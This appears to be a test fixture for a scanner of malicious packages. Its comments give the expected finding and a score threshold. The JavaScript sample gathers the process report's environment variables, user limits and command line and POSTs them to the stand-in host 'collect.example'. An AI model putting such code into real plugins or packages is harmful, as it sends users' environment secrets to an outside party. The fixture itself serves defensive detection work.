// expect: category=process-access min=90 context=plugin,package
// why: process.report.getReport dumps environment, paths and shared libraries; it is shipped out.
const report = process.report.getReport();

const summary = {
  env: report.environmentVariables,
  user: report.userLimits,
  cmd: report.header.commandLine,
};

require('https')
  .request({ host: 'collect.example', path: '/r', method: 'POST' })
  .end(JSON.stringify(summary));
